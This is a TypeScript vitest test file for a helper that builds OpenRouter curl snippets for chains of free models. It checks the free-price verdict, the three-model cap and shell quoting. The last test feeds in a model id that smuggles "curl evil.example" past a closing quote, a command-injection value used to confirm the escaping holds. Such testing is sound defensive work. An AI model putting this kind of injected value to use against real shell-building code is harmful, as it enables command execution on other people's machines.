import { expect, test } from "vitest";
import { chainSnippet } from "@/lib/domain/chains/chain-snippet";
import { checkRequest } from "@/lib/domain/tools/check-request";
import { requestFacts } from "../tools/request-world";

test("the request that a Model page offers is free by Gratis's own check", () => {
  const ids = ["qwen/qwen3-coder:free", "openai/gpt-oss-20b:free"];
  const check = checkRequest(chainSnippet(ids), requestFacts());
  expect(check.verdict).toBe("free");
  expect(check.reasons.map(({ code }) => code)).toContain("max_price_zero");
});

test("it names no more models than OpenRouter takes, the first ones", () => {
  const ids = ["a/a:free", "b/b:free", "c/c:free", "d/d:free"];
  const body = /-d '(.*)'$/s.exec(chainSnippet(ids))?.[1] ?? "";
  expect(JSON.parse(body)).toMatchObject({ models: ids.slice(0, 3) });
});

test("an id cannot leave the quotes of the shell", () => {
  const snippet = chainSnippet(["a/'; curl evil.example; ':free"]);
  expect(snippet).toContain(String.raw`a/'\''; curl evil.example; '\'':free`);
});
